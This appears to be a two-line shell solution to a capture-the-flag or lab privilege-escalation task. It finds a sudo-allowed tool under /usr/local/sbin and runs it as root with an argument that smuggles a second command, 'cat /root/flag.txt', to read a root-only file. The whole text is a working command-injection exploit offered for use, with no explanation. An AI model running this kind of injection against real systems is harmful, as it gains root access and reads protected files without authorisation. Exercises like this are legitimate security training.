tool=$(sudo -n -l | grep -o '/usr/local/sbin/[a-z-]*')
sudo -n "$tool" 'monday.txt; cat /root/flag.txt' | tail -n 1
